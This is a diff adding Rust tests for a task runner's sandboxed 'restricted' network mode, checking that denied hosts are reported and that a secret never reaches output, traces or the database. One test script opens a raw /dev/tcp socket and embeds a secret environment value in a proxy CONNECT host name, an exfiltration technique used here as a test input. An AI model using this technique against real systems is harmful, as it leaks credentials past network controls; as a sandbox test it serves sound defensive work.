@@ -200,6 +200,47 @@ fn an_aop_task_names_its_hosts_in_an_extension() {
 }
 
 #[test]
+fn a_secret_in_the_name_of_a_host_is_neither_stored_nor_shown() {
+    let cli = Cli::writ();
+    if !can_show(&cli) {
+        return;
+    }
+    let script = "exec 3<>/dev/tcp/127.0.0.1/3128; printf \"CONNECT $KEY.test:443 HTTP/1.1\\r\\n\\r\\n\" >&3; grep pong <&3";
+    let head = "sandbox = \"enforce\"\nnetwork = \"restricted\"\nnetwork_allow = []";
+    write(&cli, head, &[task("a", script, "env = { KEY = \"env:CANARY\" }")]);
+    let call = cli.call(["run", "plan.toml", "--output", "json"]).env("CANARY", "Yellow-Bird-4711");
+    let output = call.deadline(SOON).run();
+    let failed = &tasks(&output)[0];
+    assert_eq!(failed["code"], "E_PERMISSION_DENIED", "{failed}");
+    assert_eq!(failed["network"][0]["verdict"], "denied", "{failed}");
+    let trace = cli.run(["trace", "@last"]).success().stdout.clone();
+    let kept = std::fs::read(cli.db()).unwrap();
+    let log = std::fs::read(cli.db().with_extension("db-wal")).unwrap_or_default();
+    for text in [output.stdout.as_bytes(), trace.as_bytes(), &kept, &log] {
+        assert!(!String::from_utf8_lossy(text).to_lowercase().contains("yellow-bird"));
+    }
+}
+
+#[test]
+fn a_check_of_the_task_has_the_same_network_and_its_output_names_the_denied_host() {
+    let cli = Cli::writ();
+    if !can_show(&cli) {
+        return;
+    }
+    let (allowed, other) = (server(), server());
+    let head =
+        format!("sandbox = \"enforce\"\nnetwork = \"restricted\"\nnetwork_allow = [\"127.0.0.1:{allowed}\"]");
+    for (port, passes) in [(allowed, true), (other, false)] {
+        let request = through_proxy(&format!("GET http://127.0.0.1:{port}/ HTTP/1.1\\r\\n\\r\\n"));
+        let check = format!("[[task.checks]]\ncommand = [\"bash\", \"-c\", '''{request}''']\n");
+        let checked = &tasks(&run(&cli, &head, &[task("a", "true", &check)]))[0];
+        assert_eq!(checked["status"] == "done", passes, "{checked}");
+        let denied = format!("denied `127.0.0.1:{other}`");
+        assert_eq!(checked["failed_check"].to_string().contains(&denied), !passes, "{checked}");
+    }
+}
+
+#[test]
 fn without_a_namespace_a_restricted_network_is_refused_or_said() {
     let cli = Cli::writ();
     if !can_show(&cli) {
